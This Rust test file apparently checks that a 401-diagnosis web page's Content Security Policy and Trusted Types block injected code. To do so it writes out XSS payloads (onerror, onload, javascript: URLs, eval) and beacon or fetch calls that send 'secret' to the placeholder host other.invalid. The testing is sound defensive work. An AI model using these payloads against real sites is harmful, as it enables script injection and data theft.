//! What the page's policy lets nobody do, and that the page itself never asks for more than it grants.

use browser_tests::{Page, Peer, Reply, Setup, Window};
use serde_json::{Value, json};

const CAUSE: &str = "#part-verdict [data-test=cause]";

/// Keeps what the policy refused in `refused`, from before the page's first line on: the directive, and what was
/// refused.
const LISTEN: &str = "window.refused = []; window.ran = [];
    addEventListener('securitypolicyviolation', event => refused.push([event.effectiveDirective, event.blockedURI || event.sample]))";

async fn listened(rest: &str) -> Page {
    let page = Page::blank("/", Window::WIDE).await;
    page.before_every_load(LISTEN).await;
    page.visit(rest).await;
    page
}

/// Does something that the policy must refuse: it may throw, must not run, and one of these directives must be named.
async fn assert_refused(page: &Page, what: &str, script: &str, directives: &[&str]) {
    // At another time than the driver's own script, which may do what the page may not.
    let tried = format!(
        "refused.length = 0; ran.length = 0;
        setTimeout(() => {{ try {{ {script} }} catch (error) {{ refused.push(['threw', '' + error]) }} }})"
    );
    page.script(&tried).await;
    let told = directives.iter().map(|name| format!("'{name}'")).collect::<Vec<_>>().join(",");
    let named = format!("return refused.some(([directive]) => [{told}].includes(directive))");
    page.wait_for_true(&format!("{what} is refused for {directives:?}"), &named).await;
    assert_eq!(page.script("return ran").await, json!([]), "{what} ran");
}

#[tokio::test]
async fn what_is_slipped_in_does_not_run() {
    let page = listened("").await;
    let page = &page;
    // A policy of one's own would let scripts through Trusted Types; the rest is refused even so.
    assert_refused(page, "another policy", "trustedTypes.createPolicy('default', {})", &["trusted-types"])
        .await;
    assert_refused(
        page,
        "the page's own policy again",
        "trustedTypes.createPolicy('why401', {})",
        &["trusted-types"],
    )
    .await;
    let types = "require-trusted-types-for";
    for (what, script) in [
        ("markup from text", "document.querySelector('main').innerHTML = '<img src=x onerror=ran.push(1)>'"),
        ("markup beside", "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=ran.push(1)>')"),
        ("a document from text", "document.write('<script>ran.push(1)</scr' + 'ipt>')"),
        (
            "a frame's text",
            "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.ran.push(1)</script>'; document.body.append(f)",
        ),
        (
            "a script's text",
            "const s = document.createElement('script'); s.textContent = 'ran.push(1)'; document.body.append(s)",
        ),
        (
            "a script's address",
            "const s = document.createElement('script'); s.src = './start.js'; document.body.append(s)",
        ),
        ("a worker", "new Worker('./engine_loader.js', { type: 'module' })"),
        ("a text as program", "eval('ran.push(1)')"),
        ("a text as function", "new Function('ran.push(1)')()"),
        ("a text at a later time", "setTimeout('ran.push(1)', 0)"),
    ] {
        assert_refused(page, what, script, &[types, "script-src", "threw"]).await;
    }
    for (what, script, directive) in [
        (
            "a script's text node",
            "const s = document.createElement('script'); s.append('ran.push(1)'); document.body.append(s)",
            "script-src-elem",
        ),
        (
            "a handler",
            "const b = document.createElement('button'); b.setAttribute('onclick', 'ran.push(1)'); document.body.append(b); b.click()",
            "script-src-attr",
        ),
        (
            "an address that is a script",
            "const a = document.createElement('a'); a.href = 'javascript:ran.push(1)'; document.body.append(a); a.click()",
            "script-src-elem",
        ),
    ] {
        assert_refused(page, what, script, &[directive, types]).await;
    }
    for (what, script, directive) in [
        (
            "a sheet's text",
            "const s = document.createElement('style'); s.append('h1 { color: red }'); document.head.append(s)",
            "style-src-elem",
        ),
        (
            "a style in an attribute",
            "document.querySelector('h1').setAttribute('style', 'color: red')",
            "style-src-attr",
        ),
        (
            "a base",
            "const b = document.createElement('base'); b.href = 'https://other.invalid/'; document.head.append(b)",
            "base-uri",
        ),
        (
            "a form",
            "const f = document.createElement('form'); f.action = 'https://other.invalid/'; document.body.append(f); f.submit()",
            "form-action",
        ),
    ] {
        assert_refused(page, what, script, &[directive]).await;
    }
    // The page is none the worse for it.
    page.paste("#box", "HTTP/1.1 407 Proxy Authentication Required\n\n").await;
    page.wait_for_text(CAUSE, "proxy-auth-required").await;
}

#[tokio::test]
async fn nothing_is_fetched_from_elsewhere_or_sent_there() {
    let peer = Peer::start();
    peer.answer("/keys", Reply::Open(200, "application/json", "{}".to_owned()));
    let page = listened("").await;
    let page = &page;
    let there = peer.origin();
    for (what, script, directive) in [
        ("a picture", "new Image().src = THERE + '/p.png?secret'", "img-src"),
        (
            "a sheet",
            "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = THERE + '/s.css'; document.head.append(l)",
            "style-src-elem",
        ),
        ("a typeface", "new FontFace('f', `url(${THERE}/f.woff2)`).load().catch(() => {})", "font-src"),
        (
            "a frame",
            "const f = document.createElement('iframe'); f.src = THERE; document.body.append(f)",
            "frame-src",
        ),
        (
            "a plug-in",
            "const o = document.createElement('object'); o.data = THERE + '/o'; document.body.append(o)",
            "object-src",
        ),
        ("a sound", "new Audio(THERE + '/a.ogg').play().catch(() => {})", "media-src"),
        // Another address of this computer than those that connect-src names: nothing but the policy keeps it away.
        (
            "a request in clear",
            "fetch(THERE.replace('127.0.0.1', '127.0.0.2')).catch(() => {})",
            "connect-src",
        ),
        (
            "a request in clear to elsewhere",
            "fetch('http://other.invalid/?secret').catch(() => {})",
            "connect-src",
        ),
        ("a beacon", "navigator.sendBeacon('http://other.invalid/', 'secret')", "connect-src"),
        ("a socket", "new WebSocket(THERE.replace('http', 'ws'))", "connect-src"),
        ("a stream of events", "new EventSource('http://other.invalid/')", "connect-src"),
    ] {
        let script = format!("const THERE = '{there}'; {script}");
        // What a plug-in loads is refused as the address of a program before it is one of a file.
        assert_refused(page, what, &script, &[directive, "require-trusted-types-for"]).await;
    }
    assert_eq!(peer.heads(), [""; 0], "none of it arrived");
    // What an issuer under development is asked with does arrive, so the address was not what kept the rest away.
    let fetched = page
        .client()
        .execute_async(
            "const [url, done] = arguments; fetch(url).then(r => r.text()).then(done, e => done('' + e))",
            vec![json!(format!("{there}/keys"))],
        )
        .await
        .expect("a script runs");
    assert_eq!(fetched, "{}");
}

#[tokio::test]
async fn what_stands_in_the_file_does_not_run() {
    let setup = Setup::read();
    let html = std::fs::read_to_string(setup.dist.join("index.html")).expect("the page");
    let bad = "<script>document.title = 'ran'</script><img src=\"absent.png\" onerror=\"document.title = 'ran'\">\
               <svg onload=\"document.title = 'ran'\"></svg><style>h1 { color: rgb(1, 2, 3) !important }</style>\
               <h1 style=\"color: rgb(1, 2, 3)\">x</h1><script type=\"module\">document.title = 'ran'</script>";
    let html = html.replacen("<main", &format!("{bad}<main"), 1);
    let page = Page::tampered(&[("index.html", Some(&html))], Window::WIDE).await;
    page.wait_for_true("the engine rests", "return document.body.dataset.work === 'rests'").await;
    assert_eq!(page.script("return document.title").await, "why401");
    let colours =
        page.script("return [...document.querySelectorAll('h1')].map(e => getComputedStyle(e).color)").await;
    let colours = colours.as_array().expect("colours");
    assert!(colours.len() > 1 && !colours.contains(&json!("rgb(1, 2, 3)")), "{colours:?}");
    // Nor does a file that is not the one that was built.
    let page = Page::tampered(&[("start.js", Some("document.title = 'ran'"))], Window::WIDE).await;
    let changed = "return document.readyState === 'complete' && document.title";
    page.wait_for_true("the page loads", "return document.readyState === 'complete'").await;
    assert_eq!(page.script(changed).await, "why401");
    let told = page.console_errors().await;
    assert!(told.iter().any(|line| line.contains("integrity")), "{told:?}");
}

#[tokio::test]
async fn pages_of_causes_run_no_script() {
    let page = Page::blank("/", Window::WIDE).await;
    page.before_every_load(LISTEN).await;
    page.client().goto(&format!("{}causes/token-expired.html", page.url())).await.expect("it opens");
    page.wait_for_text("h1", "expired").await;
    assert_eq!(page.script("return refused").await, json!([]));
    let script =
        "const s = document.createElement('script'); s.append('ran.push(1)'); document.body.append(s)";
    assert_refused(&page, "a script", script, &["script-src-elem", "require-trusted-types-for"]).await;
    assert_refused(&page, "a request", "fetch('./index.html').catch(() => {})", &["connect-src"]).await;
}

/// What the policy refused of the page itself so far.
async fn assert_nothing_refused(page: &Page, state: &str) {
    assert_eq!(page.script("return refused").await, json!([]), "{state}");
    page.assert_quiet().await;
}

#[tokio::test]
async fn the_page_asks_for_nothing_that_is_refused() {
    let page = listened("").await;
    let page = &page;
    assert_nothing_refused(page, "start").await;
    // What is asked for ahead is what is asked for then.
    let programs =
        "return performance.getEntriesByType('resource').filter(one => one.name.includes('/page_bg')).length";
    assert_eq!(page.script(programs).await, 1, "the program is fetched once");
    for example in ["expired", "audience", "preflight", "digest", "waf", "redirect", "browser"] {
        page.visit("").await;
        page.click(&format!("[data-example={example}]")).await;
        page.wait_for(CAUSE).await;
        assert_nothing_refused(page, example).await;
    }
    // The map, unfolded and answered.
    page.click(".to-map").await;
    page.click("[data-act=unfold-map]").await;
    page.click("#q-carries").await;
    page.click("#part-map [data-test=panel] [data-choice=nothing]").await;
    page.wait_for("#part-path [data-key=carries].by-you").await;
    assert_nothing_refused(page, "the map").await;
    // What the bar and the boxes do.
    page.click("[data-act=theme]").await;
    page.click("[data-test=share]").await;
    page.wait_for("[data-test=copy-link]").await;
    page.click("[data-test=copy-link]").await;
    page.wait_for_text("[data-test=copied]", "Copied").await;
    assert_nothing_refused(page, "the share dialogue").await;
    let link = page.clipboard().await;
    page.visit(&link[link.find('#').expect("a fragment")..]).await;
    page.wait_for("[data-test=from-link]").await;
    for rest in ["#q=refusal", "#no-such-link", "#paste=HTTP%2F1.1%20403%20Forbidden"] {
        page.visit(rest).await;
        assert_nothing_refused(page, rest).await;
    }
    // Every fold is opened, whatever it holds.
    page.visit("").await;
    page.click("[data-example=digest]").await;
    page.wait_for(CAUSE).await;
    page.script("document.querySelectorAll('details').forEach(fold => { fold.open = true })").await;
    assert_nothing_refused(page, "every fold").await;
    // A text that is too big for the box, which the page itself says.
    page.script(
        "box.value = 'x'.repeat(50e6); box.dispatchEvent(new InputEvent('input', { bubbles: true }))",
    )
    .await;
    page.wait_for("#notices [data-test=notice]").await;
    page.click("[data-act=close-own-notice]").await;
    assert_nothing_refused(page, "the notice").await;
}

#[tokio::test]
async fn keys_are_fetched_and_tried_within_the_policy() {
    let peer = Peer::start();
    let page = listened("").await;
    let page = &page;
    let claims = json!({ "iss": peer.origin(), "exp": 4_000_000_000_u32 });
    let token = format!(
        "{}.{}.c2lnbmVkLWJ5LW5vYm9keQ",
        base64url(&json!({"alg": "RS256", "kid": "k"})),
        base64url(&claims)
    );
    peer.answer(
        "/.well-known/oauth-authorization-server",
        Reply::Open(
            200,
            "application/json",
            json!({ "issuer": peer.origin(), "jwks_uri": peer.origin() + "/keys" }).to_string(),
        ),
    );
    peer.answer("/keys", Reply::Open(200, "application/json", json!({ "keys": [] }).to_string()));
    page.paste("#box", &refusal(&token)).await;
    page.click(&format!(
        "[data-act=fetch][data-url='{}/.well-known/oauth-authorization-server']",
        peer.origin()
    ))
    .await;
    page.click(&format!("[data-act=fetch][data-url='{}/keys']", peer.origin())).await;
    page.wait_for_true("both were asked", "return document.querySelectorAll('[data-test=came]').length > 1")
        .await;
    assert_eq!(page.script("return refused").await, json!([]));
    page.visit("").await;
    let token =
        format!("{}.{}.c2lnbmVkLWJ5LW5vYm9keQ", base64url(&json!({ "alg": "HS256" })), base64url(&claims));
    page.paste("#box", &refusal(&token)).await;
    page.click(".key-check summary").await;
    page.type_into(".key-check textarea", "a secret").await;
    page.click("[data-test=check-key]").await;
    page.wait_for_text("[data-test=signature]", "does not fit").await;
    assert_eq!(page.script("return refused").await, json!([]));
    let told = page.console_errors().await;
    assert_eq!(told, [""; 0]);
}

fn refusal(token: &str) -> String {
    format!(
        "GET / HTTP/1.1\nHost: api.corp.co\nAuthorization: Bearer {token}\n\nHTTP/1.1 401 Unauthorized\nWWW-Authenticate: Bearer error=\"invalid_token\"\n\n"
    )
}

fn base64url(value: &Value) -> String {
    const SIGNS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let text = value.to_string();
    let mut out = String::new();
    for three in text.as_bytes().chunks(3) {
        let bits =
            three.iter().fold(0_u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
        for at in 0..=three.len() {
            out.push(char::from(SIGNS[(bits >> (18 - 6 * at)) as usize & 63]));
        }
    }
    out
}
